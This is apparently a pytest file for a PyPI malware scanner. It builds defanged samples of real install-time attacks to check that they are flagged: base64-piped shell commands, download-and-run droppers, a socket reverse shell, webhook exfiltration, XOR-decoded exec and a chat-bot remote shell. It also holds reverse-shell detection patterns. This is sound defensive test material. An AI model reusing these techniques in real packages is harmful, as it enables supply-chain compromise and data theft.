"""Execution context decides severity; install-time techniques seen in real PyPI malware.

Every sample is defanged (hosts under example.invalid, inert commands) and only
parsed, never run. The techniques are those the real-malware benchmark
(bench/malware/) showed the scanner missing; each has a benign look-alike.
"""

from __future__ import annotations

import base64
from dataclasses import replace
from pathlib import Path

import pytest

from pipwarden.findings import Finding, Severity
from pipwarden.rules import Where
from pipwarden.scan import scan_target
from pipwarden.scan.context import AT_INSTALL, Context, contextualise, file_context
from pipwarden.scan.rules import BY_ID
from tests.support.builders import build_sdist

INSTALL_CLASS = (
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "import base64, os, subprocess, tempfile, urllib.request\n"
    "{helpers}"
    "class PostInstall(install):\n"
    "    def run(self):\n"
    "        install.run(self)\n"
    "{body}"
    "setup(name='p', version='1', cmdclass={{'install': PostInstall}})\n"
)


def _indent(lines: str) -> str:
    return "".join(f"        {line}\n" for line in lines.splitlines())


#: A small library (1.5 KiB of statements).
LIBRARY = "".join(
    f"def scale_{i}(value, factor={i}):\n    return value * factor + {i}\n" for i in range(30)
)


def _scan_sdist(tmp_path: Path, files: dict[str, str | bytes]) -> tuple[str, list[Finding]]:
    # A package beside setup.py: an sdist of setup.py alone holds nothing but a name
    # (placeholder.empty), and install code in front of no library is the package
    # (placeholder.install-only).
    filename, data = build_sdist("p", "1", {"p/__init__.py": LIBRARY, **files})
    path = tmp_path / filename
    path.write_bytes(data)
    result = scan_target(path)
    return result.verdict, result.findings


def _setup(tmp_path: Path, body: str, helpers: str = "") -> tuple[str, set[str]]:
    source = INSTALL_CLASS.format(helpers=helpers, body=_indent(body))
    verdict, findings = _scan_sdist(tmp_path, {"setup.py": source})
    return verdict, {f.rule for f in findings if f.severity >= Severity.HIGH}


SHELL_B64 = base64.b64encode(b"echo DEFANGED").decode()

# (technique, install-command body, helper functions, verdict, a rule it must raise)
INSTALL_TECHNIQUES = [
    (
        "echo-base64-pipe-bash",
        f"os.system('echo {SHELL_B64} | base64 -d | bash')",
        "",
        "malicious",
        "obfuscation.exec-decoded",
    ),
    (
        "encoded-at-run-time-then-piped",
        "enc = base64.b64encode(b'echo DEFANGED')\nos.system('echo %s|base64 -d|bash' % enc.decode())",
        "",
        "malicious",
        "obfuscation.exec-decoded",
    ),
    (
        "decoding-helper-on-a-literal",
        "run_it()",
        "def b64d(code):\n    return base64.b64decode(code.encode('ascii')).decode('ascii')\n"
        f"def run_it():\n    os.system(b64d({SHELL_B64!r}))\n",
        "malicious",
        "obfuscation.exec-decoded",
    ),
    (
        "powershell-through-a-run-helper",
        "run('powershell -Command \"Invoke-WebRequest -Uri https://files.example.invalid/a.zip "
        "-OutFile $env:TEMP\\\\a.zip\"')\n"
        "run('powershell -Command \"Expand-Archive -Path $env:TEMP\\\\a.zip -DestinationPath "
        "$env:TEMP\\\\a\"')\n"
        "run('powershell -Command \"Start-Process -WindowStyle Hidden $env:TEMP\\\\a\\\\a.exe\"')",
        "def run(cmd):\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n"
        "    return p.communicate()\n",
        "malicious",
        "download-execute.drop-and-run",
    ),
    (
        "download-to-temp-then-run",
        "path = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
        "urllib.request.urlretrieve('https://files.example.invalid/upd.exe', path)\n"
        "subprocess.Popen([path])",
        "",
        "malicious",
        "download-execute.drop-and-run",
    ),
    (
        "curl-at-install-time",
        "os.system('curl https://beacon.example.invalid/ping')",
        "",
        "suspicious",
        "install-hook.network",
    ),
]


@pytest.mark.parametrize(
    ("body", "helpers", "verdict", "rule"),
    [t[1:] for t in INSTALL_TECHNIQUES],
    ids=[t[0] for t in INSTALL_TECHNIQUES],
)
def test_install_time_technique(
    tmp_path: Path, body: str, helpers: str, verdict: str, rule: str
) -> None:
    got, rules = _setup(tmp_path, body, helpers)
    assert rule in rules
    assert got == verdict or (verdict == "suspicious" and got == "malicious")


def test_install_command_running_a_build_tool_stays_clean(tmp_path: Path) -> None:
    verdict, rules = _setup(
        tmp_path,
        "subprocess.check_call(['make', '-C', 'native'])\nos.system('echo built')",
        "def run(cmd):\n    return subprocess.call(cmd, shell=True)\n",
    )
    assert verdict == "clean", rules


def test_paste_site_contacted_by_setup_py_is_flagged(tmp_path: Path) -> None:
    source = (
        "import requests\nfrom setuptools import setup\n"
        "cfg = requests.get('https://pastebin.com/raw/DEFANGED0').text\nsetup(name='p')\n"
    )
    verdict, findings = _scan_sdist(tmp_path, {"setup.py": source})
    assert verdict != "clean"
    paste = [f for f in findings if f.rule == "suspicious-endpoint.paste-site"]
    assert paste and paste[0].severity == Severity.HIGH


def test_obfuscator_renaming_exec_is_suspicious(tmp_path: Path) -> None:
    module = "from builtins import *\nRun, Text, Many, Walk = exec, str, tuple, map\nRun(Text(1))\n"
    verdict, findings = _scan_sdist(tmp_path, {"p/__init__.py": module, "setup.py": ""})
    assert verdict != "clean"
    assert "obfuscation.builtin-alias" in {f.rule for f in findings}


# ---------------------------------------------------------------- test and docs files


POPULAR_PROJECT_TESTS: dict[str, str | bytes] = {
    "setup.py": "from setuptools import setup\nsetup(name='p', version='1')\n",
    "p/__init__.py": "VERSION = '1'\n",
    # A test that pickles a response (requests' own suite does).
    "tests/test_pickle.py": (
        "import pickle, requests\n"
        "def test_response_pickles():\n"
        "    r = requests.get('https://httpbin.example.invalid/get')\n"
        "    assert pickle.loads(pickle.dumps(r)).status_code == r.status_code\n"
        "    assert pickle.loads(r.content) is not None\n"
    ),
    # A test client built with a credential from the environment.
    "tests/conftest.py": (
        "import os, requests\n"
        "TOKEN = os.environ['API_SECRET_TOKEN']\n"
        "requests.post('https://api.example.invalid/login', data={'token': TOKEN})\n"
    ),
    # An example that signs a request with the user's key.
    "examples/sign.py": (
        "import os, requests\n"
        "requests.post('https://api.example.invalid/upload',\n"
        "              headers={'key': os.environ['ACCESS_KEY_SECRET']})\n"
    ),
}


def test_test_suite_and_examples_of_an_sdist_are_not_flagged(tmp_path: Path) -> None:
    verdict, findings = _scan_sdist(tmp_path, POPULAR_PROJECT_TESTS)
    assert verdict == "clean", [(f.rule, f.file, f.severity) for f in findings]
    assert all(f.severity <= Severity.LOW for f in findings if "/tests/" in (f.file or ""))


def test_the_same_code_in_the_package_still_counts(tmp_path: Path) -> None:
    files = dict(POPULAR_PROJECT_TESTS)
    files["p/__init__.py"] = files.pop("tests/conftest.py")
    verdict, _ = _scan_sdist(tmp_path, files)
    assert verdict != "clean"


def test_a_test_module_imported_by_setup_py_runs_at_install_time(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "setup.py": "from tests import boot\nfrom setuptools import setup\nsetup(name='p')\n",
        "tests/__init__.py": "",
        "tests/boot.py": f"import os\nos.system('echo {SHELL_B64} | base64 -d | sh')\n",
    }
    verdict, _ = _scan_sdist(tmp_path, files)
    assert verdict == "malicious"


DOWNLOAD_AND_RUN = (
    "import subprocess, urllib.request\n"
    "def fetch():\n"
    "    urllib.request.urlretrieve('https://dl.example.invalid/tool.sh', 'tool.sh')\n"
    "    subprocess.run(['sh', 'tool.sh'])\n"
    "fetch()\n"
)


def test_a_release_tool_of_an_sdist_is_not_flagged(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "setup.py": "from setuptools import setup\nsetup(name='p', version='1')\n",
        "p/__init__.py": "VERSION = '1'\n",
        "releng/deps.py": DOWNLOAD_AND_RUN,
    }
    verdict, findings = _scan_sdist(tmp_path, files)
    assert verdict == "clean", [(f.rule, f.file, f.severity) for f in findings]
    assert any("(in a tooling file)" in f.message for f in findings)


def test_a_tool_that_setup_py_runs_runs_at_install_time(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "setup.py": (
            "from setuptools import setup\n"
            "exec(open('tools/boot.py').read())\n"
            "setup(name='p', version='1')\n"
        ),
        "p/__init__.py": "VERSION = '1'\n",
        "tools/boot.py": DOWNLOAD_AND_RUN,
    }
    verdict, findings = _scan_sdist(tmp_path, files)
    assert verdict == "malicious", [(f.rule, f.file, f.severity) for f in findings]


@pytest.mark.parametrize(
    ("path", "kind", "context"),
    [
        ("p-1/setup.py", "sdist", Context.INSTALL),
        ("p-1/tests/test_x.py", "sdist", Context.TEST),
        ("p-1/src/p/tests/helpers.py", "sdist", Context.TEST),
        ("p-1/conftest.py", "sdist", Context.TEST),
        ("p-1/docs/conf.py", "sdist", Context.DOCS),
        ("p-1/examples/demo.py", "sdist", Context.DOCS),
        ("demo-1/demo/__init__.py", "sdist", Context.PACKAGE),
        ("p-1/src/p/docs/__init__.py", "sdist", Context.PACKAGE),
        # CI scripts at the root run on the project's CI machines; a package's ci/ is code.
        ("p-1/ci/appveyor-bootstrap.py", "sdist", Context.TEST),
        # CI configuration folders hold scripts the CI service runs (matplotlib's
        # .circleci/fetch_doc_logs.py fetches a log URL it downloaded); nothing installs them.
        ("p-1/.circleci/fetch_doc_logs.py", "sdist", Context.TEST),
        ("p-1/.github/scripts/release.py", "sdist", Context.TEST),
        ("p-1/src/p/.github/x.py", "sdist", Context.PACKAGE),
        ("p/.circleci/x.py", "wheel", Context.PACKAGE),
        ("p-1/src/p/ci/__init__.py", "sdist", Context.PACKAGE),
        ("p/ci/run.py", "wheel", Context.PACKAGE),
        # A package named like a test is a package; wheels install their tests as code.
        ("p-1/api_test/__init__.py", "sdist", Context.PACKAGE),
        ("p-1/ttat-api-test/__init__.py", "sdist", Context.PACKAGE),
        ("p/tests/test_x.py", "wheel", Context.PACKAGE),
        ("tests/test_x.py", "folder", Context.TEST),
        # Yandex's unit-test folders (catboost's .../model_export/ut/test.py)
        ("p-1/p/libs/model/ut/test.py", "sdist", Context.TEST),
        # A project's own tools at the root of the tree; a package's tools/ is code.
        ("p-1/tools/menu_bench.py", "sdist", Context.TOOLING),
        ("p-1/bench/expression.py", "sdist", Context.TOOLING),
        ("p-1/releng/deps.py", "sdist", Context.TOOLING),
        ("p-1/third_party/nanobind/cmake/collect-symbols.py", "sdist", Context.TOOLING),
        ("p-1/src/p/tools/__init__.py", "sdist", Context.PACKAGE),
        ("p/tools/run.py", "wheel", Context.PACKAGE),
    ],
)
def test_file_context(path: str, kind: str, context: Context) -> None:
    assert file_context(path, kind) is context


def test_install_time_files_raise_the_rules_declared_for_the_whole_file() -> None:
    # The declarations say it (severity_in at install, whole_file), not a table here.
    assert AT_INSTALL == {
        "suspicious-endpoint.paste-site": Severity.HIGH,
        "suspicious-endpoint.webhook": Severity.HIGH,
        "suspicious-endpoint.tunnel": Severity.HIGH,
        "suspicious-endpoint.dynamic-dns": Severity.HIGH,
        "suspicious-endpoint.contacted": Severity.HIGH,
        "download-execute.drop-and-run": Severity.CRITICAL,
    }
    paste = Finding(
        "code", "suspicious-endpoint.paste-site", Severity.MEDIUM, "u", file="p-1/setup.py"
    )
    (raised,) = contextualise([paste], "sdist")
    assert raised.severity is Severity.HIGH and raised.message == "u (in install-time code)"
    assert contextualise([paste], "sdist", install=())[0].severity is Severity.HIGH
    helper = replace(paste, file="p-1/build_helpers.py")
    assert contextualise([helper], "sdist")[0].severity is Severity.MEDIUM
    assert contextualise([helper], "sdist", {"p-1/build_helpers.py"})[0].severity is Severity.HIGH
    # A severity declared for install-time code that the engine places (not the whole
    # file) is the engine's to apply: a program shipped in the sdist run by setup.py.
    assert BY_ID["binary-dropper.run-shipped"].severity_at(Where.INSTALL) is Severity.CRITICAL
    shipped = Finding("code", "binary-dropper.run-shipped", Severity.HIGH, "r", file="p-1/setup.py")
    assert contextualise([shipped], "sdist")[0].severity is Severity.HIGH


def test_contextualise_keeps_archive_findings_in_docs() -> None:
    f = Finding("code", "archive.special-file", Severity.HIGH, "fifo", file="p-1/docs/x")
    assert contextualise([f], "sdist")[0].severity == Severity.HIGH


def test_docs_symlink_to_the_project_root_is_not_outside_the_archive(tmp_path: Path) -> None:
    import io
    import tarfile

    path = tmp_path / "p-1.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in (("p-1/setup.py", b"from setuptools import setup\nsetup()\n"),):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in (("p-1/docs/changes.rst", "../CHANGES.rst"), ("p-1/docs/src", "..")):
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tar.addfile(info)
    result = scan_target(path)
    links = [f for f in result.findings if f.rule == "archive.link"]
    assert links and all(f.severity == Severity.MEDIUM for f in links)
    assert result.verdict == "clean"


def test_symlink_escaping_the_archive_stays_high(tmp_path: Path) -> None:
    import tarfile

    path = tmp_path / "p-1.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo("p-1/docs/passwd")
        info.type = tarfile.SYMTYPE
        info.linkname = "../../../etc/passwd"
        tar.addfile(info)
    links = [f for f in scan_target(path).findings if f.rule == "archive.link"]
    assert links and links[0].severity == Severity.HIGH


# ---------------------------------------------------------------- literals that never run

RULE_TEXTS = (
    "import re\n"
    "REVERSE_SHELL_RE = re.compile(r'bash -i >& /dev/tcp/|nc -e /bin/sh')\n"
    "DESCRIPTION = \"A command such as 'bash -i >& /dev/tcp/...' or 'nc -e /bin/sh'.\"\n"
    "def rule(text):\n    return {'description': text}\n"
    "RULES = [rule('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')]\n"
)


def test_rule_texts_naming_shell_commands_are_not_payloads(tmp_path: Path) -> None:
    (tmp_path / "rules.py").write_text(RULE_TEXTS)
    result = scan_target(tmp_path)
    assert result.verdict == "clean"
    assert all(f.severity <= Severity.MEDIUM for f in result.findings)


def test_the_same_literal_run_is_critical(tmp_path: Path) -> None:
    (tmp_path / "rules.py").write_text(
        "import os\nCMD = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\n"
        "def go(c):\n    os.system(c)\ngo(CMD)\n"
    )
    assert scan_target(tmp_path).verdict == "malicious"


def test_address_lookups_are_not_network_payloads(tmp_path: Path) -> None:
    # torch's etcd_server: a free port from getaddrinfo on a command line.
    (tmp_path / "srv.py").write_text(
        "import socket, subprocess\n"
        "def free_port():\n"
        "    for family, kind, proto, _, _ in socket.getaddrinfo('localhost', None):\n"
        "        s = socket.socket(family, kind, proto)\n"
        "        s.bind(('localhost', 0))\n"
        "        return s\n"
        "def start():\n"
        "    port = free_port().getsockname()[1]\n"
        "    subprocess.Popen(['etcd', '--listen-client-urls', f'http://localhost:{port}'])\n"
    )
    result = scan_target(tmp_path)
    assert result.verdict == "clean", [(f.rule, f.message) for f in result.findings]


# ---------------------------------------------------------------- more real-malware techniques

MORE_TECHNIQUES = [
    (
        "python2-setup-py-socket-shell",
        "setup.py",
        "import socket, base64, os\nrip = 'MTkyLjAuMi4x'\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "s.connect((base64.b64decode(rip), 017620))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nprint 'ok'\nos.system('/bin/sh -i')\n",
        "reverse-shell.socket-shell",
    ),
    (
        "temp-file-dropper-of-a-paste-loader",
        "setup.py",
        "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\n"
        "from os import system as _s\n_t = _f(delete=False)\n"
        '_t.write(b"""from urllib.request import urlopen as _u;'
        'exec(_u(\'https://paste.example.invalid/paste/abc/raw\').read())""")\n'
        "_t.close()\n_s(f\"start {_e.replace('.exe', 'w.exe')} {_t.name}\")\n",
        "download-execute.remote-code",
    ),
    (
        "eval-fetches-a-builtin",
        "p/__init__.py",
        "_e = eval('\\x65\\x76\\x61\\x6c')\n_c = _e('compile')\n",
        "obfuscation.hidden-name",
    ),
    (
        "hardcoded-discord-webhook",
        "p/steal.py",
        "import requests\n"
        "H = 'https://discord.com/api/webhooks/104030353260937634/" + "Zx" * 34 + "'\n"
        "def send(text):\n    requests.post(H, json={'content': text})\n",
        "suspicious-endpoint.webhook",
    ),
    (
        "hardcoded-telegram-bot-token",
        "p/bot.py",
        "import requests\nTOKEN = '1234567890:AA" + "x" * 33 + "'\n"
        "def send(m):\n"
        "    requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'text': m})\n",
        "suspicious-endpoint.webhook",
    ),
    (
        "xor-decrypted-code-compiled-by-an-install-command",
        "setup.py",
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n"
        "        w, k, out = ']]E]JE', '40528', ''\n"
        "        for i in range(len(w)):\n"
        "            out += chr(ord(w[i]) ^ ord(k[i % len(k)]))\n"
        "        eval(compile(out, '<string>', 'exec'))\n"
        "setup(name='p', cmdclass={'install': I})\n",
        "obfuscation.exec-decoded",
    ),
    (
        "downloaded-program-started-hidden",
        "p/update.py",
        "import os, subprocess, requests\n"
        "def update():\n"
        "    r = requests.get('https://files.example.invalid/u/helper.exe')\n"
        "    path = os.path.join(os.environ['USERPROFILE'], 'helper.exe')\n"
        "    with open(path, 'wb') as f:\n        f.write(r.content)\n"
        "    subprocess.Popen(path, creationflags=subprocess.CREATE_NO_WINDOW)\n",
        "download-execute.drop-and-run",
    ),
    (
        "background-python-started-on-import",
        "p/__init__.py",
        "import subprocess\n"
        "def _start():\n"
        "    subprocess.Popen(['python3', '-c', 'from helperpkg import agent'], close_fds=True)\n"
        "_start()\n",
        "startup-hook.import-process",
    ),
    (
        "pyarmor-code-run-by-an-install-command",
        "setup.py",
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n"
        "        from pytransform import pyarmor_runtime\n        pyarmor_runtime()\n"
        "        __pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00')\n"
        "setup(name='p', cmdclass={'install': I})\n",
        "obfuscation.marshal-literal",
    ),
]


@pytest.mark.parametrize(
    ("name", "source", "rule"),
    [t[1:] for t in MORE_TECHNIQUES],
    ids=[t[0] for t in MORE_TECHNIQUES],
)
def test_more_real_malware_techniques(tmp_path: Path, name: str, source: str, rule: str) -> None:
    files: dict[str, str | bytes] = {name: source}
    if name != "setup.py":
        files["setup.py"] = "from setuptools import setup\nsetup(name='p')\n"
    verdict, findings = _scan_sdist(tmp_path, files)
    assert verdict != "clean"
    assert any(f.rule == rule and f.severity >= Severity.HIGH for f in findings)


def test_a_webhook_the_user_passes_in_stays_quiet(tmp_path: Path) -> None:
    source = (
        "import requests\nAPI = 'https://discord.com/api/webhooks/'\n"
        "def notify(webhook_id, token, text):\n"
        "    requests.post(f'{API}{webhook_id}/{token}', json={'content': text})\n"
    )
    verdict, _ = _scan_sdist(
        tmp_path, {"p/notify.py": source, "setup.py": "from setuptools import setup\nsetup()\n"}
    )
    assert verdict == "clean"


def test_python2_setup_py_without_payload_stays_clean(tmp_path: Path) -> None:
    source = (
        "from setuptools import setup\nprint 'building'\nMODE = 0755\n"
        "try:\n    import foo\nexcept ImportError, e:\n    pass\nsetup(name='p')\n"
    )
    verdict, findings = _scan_sdist(tmp_path, {"setup.py": source})
    assert verdict == "clean", [(f.rule, f.message) for f in findings]


def test_a_pep723_maintainer_script_is_not_import_time_code(tmp_path: Path) -> None:
    # pip's tools/update-rtd-redirects.py: a token from the environment sent to the
    # service it manages, in a script declared as one (PEP 723).
    body = (
        "import os, httpx\nTOKEN = os.environ['RTD_API_TOKEN']\n"
        "def api():\n    return httpx.Client(headers={'Authorization': f'token {TOKEN}'})\n"
        "with api() as c:\n    c.get('https://docs.example.invalid/api/')\n"
    )
    # (in scripts/: a root tools/ folder is tooling whatever the file declares)
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "sync.py").write_text(
        "# /// script\n# dependencies = ['httpx']\n# ///\n" + body
    )
    assert scan_target(tmp_path).verdict == "clean"
    (tmp_path / "scripts" / "sync.py").write_text(body)
    assert scan_target(tmp_path).verdict == "malicious"


def test_address_decoded_in_place_is_hidden_but_one_beside_decoded_keys_is_not(
    tmp_path: Path,
) -> None:
    # A stealer's upload address: base64 of a variable, decoded in the call itself.
    (tmp_path / "steal.py").write_text(
        "import base64, requests\n"
        "def send(archive, addr):\n"
        "    requests.post(base64.b64decode(addr).decode(), files={'f': open(archive, 'rb')})\n"
    )
    assert scan_target(tmp_path).verdict == "suspicious"
    # pywebpush: the push endpoint travels in a dict beside keys it base64-decoded.
    (tmp_path / "steal.py").write_text(
        "import base64, requests\n"
        "class Pusher:\n"
        "    def prepare(self, sub, key):\n"
        "        raw = base64.urlsafe_b64decode(key)\n"
        "        return {'endpoint': sub['endpoint'], 'data': raw}\n"
        "    def send(self, sub, key):\n"
        "        params = self.prepare(sub, key)\n"
        "        endpoint = params.pop('endpoint')\n"
        "        return requests.post(endpoint, **params)\n"
    )
    assert scan_target(tmp_path).verdict == "clean"


def test_setup_py_installing_its_requirements_file_is_not_a_second_stage(tmp_path: Path) -> None:
    head = "import subprocess, sys\nfrom setuptools import setup\n"
    declared = "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'req.txt'])\n"
    named = "subprocess.run(['pip', 'install', 'gitpython', 'discord'])\n"
    verdict, _ = _scan_sdist(tmp_path, {"setup.py": head + declared + "setup(name='p')\n"})
    assert verdict == "clean"
    verdict, _ = _scan_sdist(tmp_path, {"setup.py": head + named + "setup(name='p')\n"})
    assert verdict == "suspicious"


@pytest.mark.parametrize(
    "url",
    [
        "http://x1y2.oastify.com/ping",
        "https://iplogger.com/2AbCd",
        "https://paste.example.invalid/raw/abc",
        "https://notes.example.invalid/paste/abc/raw",
    ],
)
def test_callback_loggers_and_self_hosted_pastes_are_endpoints(url: str) -> None:
    from pipwarden.scan.endpoints import endpoint

    assert endpoint(url) is not None


def test_ordinary_paste_words_are_not_endpoints() -> None:
    from pipwarden.scan.endpoints import endpoint

    assert endpoint("https://docs.example.invalid/copy-paste-guide") is None


BOT = (
    "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\n"
    "@bot.message_handler(func=lambda m: True)\ndef on(message):\n{body}"
)


def test_chat_bot_running_the_messages_it_receives_is_a_remote_shell(tmp_path: Path) -> None:
    body = "    out = subprocess.check_output(message.text, shell=True)\n    bot.reply_to(message, out)\n"
    (tmp_path / "bot.py").write_text(BOT.format(body=body))
    assert scan_target(tmp_path).verdict == "malicious"


def test_chat_bot_answering_messages_and_a_cli_command_stay_quiet(tmp_path: Path) -> None:
    (tmp_path / "bot.py").write_text(
        BOT.format(body="    bot.reply_to(message, message.text.upper())\n")
    )
    (tmp_path / "cli.py").write_text(
        "import subprocess, click\n@click.group()\ndef cli():\n    pass\n"
        "@cli.command()\ndef build(target):\n    subprocess.run(['make', target])\n"
    )
    assert scan_target(tmp_path).verdict == "clean"
